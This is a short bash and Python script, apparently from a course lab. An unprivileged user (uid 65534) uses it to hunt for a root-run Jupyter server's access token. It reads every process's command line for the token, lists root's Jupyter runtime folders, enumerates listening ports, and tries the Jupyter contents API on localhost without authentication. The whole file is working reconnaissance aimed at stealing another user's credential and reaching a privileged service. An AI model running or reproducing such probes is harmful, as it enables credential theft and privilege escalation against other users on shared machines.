#!/bin/bash
# As uid 65534 while the TA (root) runs `make lab`: where would the server's token be?
echo "== cmdlines with 'jupyter' (token=?)"; for p in /proc/[0-9]*; do c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null); case "$c" in *attack55-root*jupyter*|*attack55-root*ipykernel*) echo "$p: ${c:0:200}";; esac; done
echo "== runtime folders"; ls -la /root /root/.local/share/jupyter/runtime 2>&1 | head; ls -la /tmp | grep -i "jupyter\|distcourse-0\|kernels-" 
echo "== listeners"; awk 'NR>1 && $4=="0A" {print $2, $8}' /proc/net/tcp /proc/net/tcp6
echo "== try the server without token"; python3 - <<'PY'
import urllib.request, re
for port in (8888, 8889, 8890):
    try:
        r = urllib.request.urlopen(f"http://127.0.0.1:{port}/api/contents/source", timeout=3); print(port, r.status, r.read()[:200])
    except Exception as e:
        print(port, type(e).__name__, str(e)[:120])
PY
